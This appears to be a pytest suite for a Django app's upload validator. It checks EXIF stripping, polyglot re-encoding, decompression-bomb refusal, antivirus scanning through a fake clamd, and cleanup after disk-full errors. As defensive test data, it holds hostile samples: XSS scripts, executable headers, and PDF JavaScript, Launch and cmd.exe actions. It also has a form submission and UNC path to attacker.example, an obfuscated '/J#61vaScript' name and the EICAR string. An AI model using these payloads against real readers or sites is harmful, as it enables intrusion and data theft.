"""Uploads (RELIABILITY F1–F5, F8, L8): type by content and extension, re-encoding, PDF parsing, antivirus,
and storage failures that leave neither rows nor files behind."""

import errno
import io
import socket
import struct
import tempfile
import threading
import time
from pathlib import Path
from unittest import mock

import pikepdf
import pytest
from django.core.exceptions import ImproperlyConfigured, ValidationError
from django.core.files.storage import FileSystemStorage
from django.test import override_settings
from django.urls import reverse
from PIL import ExifTags, Image

from commitments.models import Evidence, ProgressUpdate
from partnerships import scanning
from partnerships.models import Document
from partnerships.uploads import stored_upload, validate_upload
from tests.commitments import fixtures
from tests.security.helpers import (
    EICAR,
    jpeg_bytes,
    jpeg_with_gps,
    media_snapshot,
    pdf_bytes,
    png_bytes,
    png_declaring,
    post_progress,
    upload,
)
from tests.signin import sign_in


def refusal(name: str, data: bytes, **kwargs) -> str:
    with pytest.raises(ValidationError) as raised:
        validate_upload(upload(name, data), **kwargs)
    return raised.value.error_list[0].code


# --- Images -------------------------------------------------------------------------------------


def test_gps_and_every_exif_tag_are_gone_after_re_encoding():
    original = jpeg_with_gps()
    with Image.open(io.BytesIO(original)) as image:  # the test file really carries GPS
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] == "N"
    stored = validate_upload(upload("IMG_0001.jpg", original))
    data = stored.content.read()
    with Image.open(io.BytesIO(data)) as image:
        assert image.format == "JPEG"
        assert dict(image.getexif()) == {}
        assert image.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert image.size == (40, 80), "the EXIF orientation (rotate 90°) is applied before it is dropped"
    assert b"Exif" not in data and b"PhoneMaker" not in data


def test_jpeg_html_polyglot_is_re_encoded_to_a_clean_jpeg():
    polyglot = jpeg_bytes() + b"<html><body><script>alert(document.cookie)</script></body></html>"
    stored = validate_upload(upload("anh.jpg", polyglot))
    data = stored.content.read()
    assert b"<script" not in data and b"<html" not in data
    assert data.startswith(b"\xff\xd8") and data.rstrip(b"\x00").endswith(b"\xff\xd9")
    with Image.open(io.BytesIO(data)) as image:
        assert image.format == "JPEG"


@pytest.mark.parametrize(("width", "height"), [(12_000, 12_000), (7_000, 7_000)])
def test_decompression_bomb_is_refused_quickly(width, height):
    bomb = png_declaring(width, height)  # 144 MP (over 2× the limit) and 49 MP (Pillow only warns)
    assert len(bomb) < 2_000
    started = time.perf_counter()
    assert refusal("bomb.png", bomb) == "decompression_bomb"
    assert time.perf_counter() - started < 0.5


@pytest.mark.django_db  # 18 MB decoded: a heavy image waits for a decoding slot, a PostgreSQL lock
def test_a_real_photo_is_scaled_down_and_keeps_its_type():
    stored = validate_upload(upload("lon.png", png_bytes(size=(3000, 1500))))
    with Image.open(io.BytesIO(stored.content.read())) as image:
        assert image.format == "PNG" and max(image.size) == 2400
    assert stored.content.name.endswith(".png") and not stored.is_pdf and len(stored.sha256) == 64


def test_truncated_image_is_refused():
    assert refusal("anh.jpg", jpeg_bytes(size=(400, 300))[:600]) == "broken_image"


# --- Type by content and extension ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("anh.pdf", png_bytes(), "extension_mismatch"),  # a PNG named .pdf
        ("anh.png", jpeg_bytes(), "extension_mismatch"),
        ("bien-ban.jpg", pdf_bytes(), "extension_mismatch"),
        ("anh", png_bytes(), "extension_mismatch"),
        ("trang.pdf", b"<!doctype html><html><script>alert(1)</script></html>", "wrong_type"),
        ("hinh.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "wrong_type"),
        ("anh.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "wrong_type"),
        ("anh.jpg", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 64, "wrong_type"),
        ("tai-lieu.pdf", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 64, "wrong_type"),  # zip / docx
        ("anh.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,", "wrong_type"),
        ("bien-ban.pdf", pdf_bytes()[:200], "pdf_broken"),  # truncated
        ("bien-ban.pdf", b"%PDF-1.7\n" + b"garbage " * 50, "pdf_broken"),
    ],
)
def test_hostile_corpus_is_refused(name, data, code):
    assert refusal(name, data) == code


def test_uppercase_and_long_jpeg_extensions_are_fine():
    for name in ("IMG_0001.JPG", "anh.jpeg", "anh.JPEG"):
        validate_upload(upload(name, jpeg_bytes()))


def test_photos_only_where_pdfs_are_not_allowed():
    assert refusal("bien-ban.pdf", pdf_bytes(), allow_pdf=False) == "wrong_type"


@override_settings(UPLOAD_MAX_BYTES=1000)
def test_size_limit():
    assert refusal("anh.png", png_bytes(size=(400, 400))) == "too_large"


# --- PDFs ----------------------------------------------------------------------------------------


def _names_tree_javascript(document):
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), document.make_indirect(script)]))
    )


def _open_action(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _page_additional_action(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x"))
    )


def _launch_link(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
    document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([document.make_indirect(link)]))


def _embedded_file(document):
    document.attachments["payload.exe"] = pikepdf.AttachedFileSpec(
        document, b"MZ evil", mime_type="application/x-msdownload"
    )


def _rich_media(document):
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 10, 10])
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(annot)])


def _xfa_form(document):
    xfa = document.make_stream(b"<xdp:xdp/>")
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


@pytest.mark.parametrize(
    "configure",
    [
        _names_tree_javascript,
        _open_action,
        _page_additional_action,
        _launch_link,
        _embedded_file,
        _rich_media,
        _xfa_form,
    ],
)
@pytest.mark.parametrize("object_streams", [False, True])
def test_pdfs_with_active_content_are_refused(configure, object_streams):
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    data = pdf_bytes(configure, object_stream_mode=mode)
    assert refusal("bien-ban.pdf", data) == "pdf_active_content"


def _link(action):
    def configure(document):
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])

    return configure


UNC = pikepdf.String("\\\\attacker.example\\share\\bien-ban.pdf")
LINK_ACTIONS = {
    "uri-javascript": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)")),
    "uri-javascript-spaced": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(" JavaScript :alert(1)")),
    "uri-file": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/System32/cmd.exe")),
    "submit-form": pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://attacker.example/")),
    "goto-remote-unc": pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=UNC, D=pikepdf.Array([0, pikepdf.Name.Fit])),
    "goto-embedded": pikepdf.Dictionary(S=pikepdf.Name.GoToE, NewWindow=True),
    "import-data": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=UNC),
    "launch": pikepdf.Dictionary(S=pikepdf.Name.Launch, Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))),
}


@pytest.mark.parametrize("action", LINK_ACTIONS.values(), ids=LINK_ACTIONS.keys())
def test_pdf_link_actions_that_run_send_or_open_elsewhere_are_refused(action):
    assert refusal("bien-ban.pdf", pdf_bytes(_link(action))) == "pdf_active_content"


@pytest.mark.parametrize("target", ["https://danang.gov.vn/nghi-quyet", "http://example.vn", "mailto:vp@danang.gov.vn"])
def test_pdf_links_to_web_pages_and_mail_are_kept(target):
    data = pdf_bytes(_link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(target))))
    assert validate_upload(upload("bien-ban.pdf", data)).content.read() == data


def test_an_obfuscated_name_is_still_found():
    # "/J#61vaScript" is "/JavaScript" with one letter hex-escaped: a byte regex misses it, a parser does not.
    data = pdf_bytes(_open_action, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    data = data.replace(b"/JavaScript", b"/J#61vaScript")
    assert b"/JavaScript" not in data
    assert refusal("bien-ban.pdf", data) == "pdf_active_content"


def test_an_encrypted_pdf_is_refused():
    data = pdf_bytes(encryption=pikepdf.Encryption(owner="chu", user="mat-khau-mo"))
    assert refusal("bien-ban.pdf", data) == "pdf_encrypted"


def test_a_clean_pdf_is_accepted_unchanged():
    data = pdf_bytes()
    stored = validate_upload(upload("Biên bản ký kết.pdf", data))
    assert stored.is_pdf and stored.content.read() == data and stored.original_name == "Biên bản ký kết.pdf"


# --- Antivirus ------------------------------------------------------------------------------------


def test_stub_scanner_flags_eicar_only():
    stub = scanning.StubScanner()
    assert stub.scan(b"hello") == scanning.ScanResult(clean=True)
    assert not stub.scan(b"prefix " + EICAR).clean


def test_an_infected_file_is_refused():
    assert refusal("anh.jpg", jpeg_bytes() + EICAR) == "infected"


def test_no_verdict_refuses_the_file():
    broken = mock.Mock(scan=mock.Mock(side_effect=scanning.ScanError("clamd down")))
    with mock.patch("partnerships.uploads.get_scanner", return_value=broken):
        assert refusal("anh.jpg", jpeg_bytes()) == "scan_failed"


def test_the_scanner_sees_each_file_exactly_once_from_form_to_storage():
    counting = mock.Mock(wraps=scanning.StubScanner())
    with mock.patch("partnerships.uploads.get_scanner", return_value=counting):
        photo = upload("anh.jpg", jpeg_bytes())
        validate_upload(photo)
        stored_upload(photo)
    assert counting.scan.call_count == 1


def test_scanner_setting():
    assert isinstance(scanning.scanner_from_setting("stub"), scanning.StubScanner)
    clamd = scanning.scanner_from_setting("clamd:///run/clamav/clamd.ctl")
    assert isinstance(clamd, scanning.ClamdScanner) and clamd.socket_path == "/run/clamav/clamd.ctl"
    assert scanning.scanner_from_setting("clamd:/tmp/c.sock").socket_path == "/tmp/c.sock"
    with pytest.raises(ImproperlyConfigured):
        scanning.scanner_from_setting("none")


class FakeClamd:
    """Speaks clamd's INSTREAM protocol on a Unix socket: "FOUND" when the stream holds EICAR."""

    def __init__(self, path: str):
        self.server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.server.bind(path)
        self.server.listen(1)
        self.received = []
        self.thread = threading.Thread(target=self.serve_one, daemon=True)
        self.thread.start()

    def serve_one(self):
        connection, _ = self.server.accept()
        with connection:
            command = b""
            while not command.endswith(b"\0"):
                command += connection.recv(1)
            data = b""
            while True:
                (length,) = struct.unpack("!L", self.read(connection, 4))
                if length == 0:
                    break
                data += self.read(connection, length)
            self.received.append((command, data))
            verdict = b"stream: Eicar-Signature FOUND\0" if EICAR in data else b"stream: OK\0"
            connection.sendall(verdict)

    @staticmethod
    def read(connection, count):
        data = b""
        while len(data) < count:
            data += connection.recv(count - len(data))
        return data


@pytest.mark.parametrize(("payload", "clean"), [(b"x" * 200_000, True), (b"a" * 70_000 + EICAR, False)])
def test_clamd_scanner_speaks_instream(payload, clean):
    with tempfile.TemporaryDirectory() as folder:
        path = str(Path(folder) / "clamd.sock")
        fake = FakeClamd(path)
        result = scanning.ClamdScanner(path, timeout=5).scan(payload)
        fake.thread.join(timeout=5)
    assert result.clean is clean
    assert result.signature == ("" if clean else "Eicar-Signature")
    assert fake.received == [(b"zINSTREAM\0", payload)]  # sent in chunks, all of it


def test_clamd_down_is_a_scan_error():
    with tempfile.TemporaryDirectory() as folder, pytest.raises(scanning.ScanError):
        scanning.ClamdScanner(str(Path(folder) / "missing.sock"), timeout=1).scan(b"x")


# --- Through the views: nothing stored on refusal or on a storage failure ---------------------------


@pytest.fixture
def reporting(world):
    fixtures.current_period()
    return world


@pytest.mark.django_db
def test_infected_evidence_is_refused_with_nothing_stored(client, reporting):
    before = media_snapshot()
    response = post_progress(client, reporting, [upload("a.jpg", jpeg_bytes()), upload("b.jpg", jpeg_bytes() + EICAR)])
    assert response.status_code == 200
    assert "bị phần mềm diệt virus đánh dấu là nguy hiểm" in response.content.decode()
    assert (ProgressUpdate.objects.count(), Evidence.objects.count()) == (0, 0)
    assert media_snapshot() == before


@pytest.mark.django_db
def test_infected_document_is_refused_with_nothing_stored(client, world):
    before = media_snapshot()
    sign_in(client, world.city)
    url = reverse("partnerships:document_upload", args=[world.partnership.pk])
    infected = pdf_bytes(lambda document: document.Root.__setattr__("Note", pikepdf.String(EICAR.decode())))
    response = client.post(url, {"kind": "memorandum", "title": "Biên bản", "file": upload("bb.pdf", infected)})
    assert response.status_code == 200
    assert "bị phần mềm diệt virus đánh dấu là nguy hiểm" in response.content.decode()
    assert Document.objects.count() == 0 and media_snapshot() == before


def failing_on_call(number: int):
    """A FileSystemStorage._save that writes the first ``number - 1`` files, then finds the disk full."""
    original = FileSystemStorage._save
    calls = []

    def save(storage, name, content):
        calls.append(name)
        if len(calls) >= number:
            raise OSError(errno.ENOSPC, "No space left on device")
        return original(storage, name, content)

    return save


@pytest.mark.django_db
@pytest.mark.parametrize("failing_file", [1, 2])
def test_disk_full_on_evidence_gives_a_friendly_error_no_rows_no_orphans(client, reporting, failing_file):
    before = media_snapshot()
    with mock.patch.object(FileSystemStorage, "_save", failing_on_call(failing_file)):
        response = post_progress(client, reporting, [upload("a.jpg", jpeg_bytes()), upload("b.png", png_bytes())])
    assert response.status_code == 200
    assert "Máy chủ chưa lưu được tệp" in response.content.decode()
    assert "Đã bàn giao</textarea>" in response.content.decode()  # what was typed is kept
    assert (ProgressUpdate.objects.count(), Evidence.objects.count()) == (0, 0)
    assert media_snapshot() == before, "the file written before the failure was removed again"


@pytest.mark.django_db
def test_disk_full_on_resubmission_changes_nothing(client, reporting):
    update = fixtures.returned_update(reporting)
    before = media_snapshot()
    sign_in(client, reporting.officer)
    url = reverse("commitments:progress_resubmit", args=[update.pk])
    data = {
        "achieved_quantity": "2",
        "narrative": "Bổ sung",
        "version": update.version,
        "evidence": [upload("a.jpg", jpeg_bytes())],
    }
    with mock.patch.object(FileSystemStorage, "_save", failing_on_call(1)):
        response = client.post(url, data)
    assert response.status_code == 200 and "Máy chủ chưa lưu được tệp" in response.content.decode()
    saved = ProgressUpdate.objects.get(pk=update.pk)
    assert (saved.state, saved.narrative, saved.version) == (
        ProgressUpdate.State.RETURNED,
        update.narrative,
        update.version,
    )
    assert Evidence.objects.count() == 0 and media_snapshot() == before


@pytest.mark.django_db
def test_disk_full_on_a_document_gives_a_friendly_error_no_row_no_file(client, world):
    before = media_snapshot()
    sign_in(client, world.city)
    url = reverse("partnerships:document_upload", args=[world.partnership.pk])
    with mock.patch.object(FileSystemStorage, "_save", failing_on_call(1)):
        response = client.post(url, {"kind": "memorandum", "title": "Biên bản", "file": upload("bb.pdf", pdf_bytes())})
    assert response.status_code == 200
    assert "Máy chủ chưa lưu được tệp" in response.content.decode()
    assert Document.objects.count() == 0 and media_snapshot() == before


@pytest.mark.django_db
def test_disk_full_on_the_second_activity_photo_keeps_nothing(client, world):
    from partnerships.models import Activity, ActivityPhoto

    before = media_snapshot()
    sign_in(client, world.officer)
    url = reverse("partnerships:activity_create", args=[world.partnership.pk])
    data = {
        "kind": "handover",
        "occurred_on": "2025-10-01",
        "title": "Trao quà",
        "photos": [upload("a.jpg", jpeg_bytes()), upload("b.png", png_bytes())],
    }
    with mock.patch.object(FileSystemStorage, "_save", failing_on_call(2)):
        response = client.post(url, data)
    assert response.status_code == 200
    assert "Máy chủ chưa lưu được tệp" in response.content.decode()
    assert (Activity.objects.filter(title="Trao quà").count(), ActivityPhoto.objects.count()) == (0, 0)
    assert media_snapshot() == before
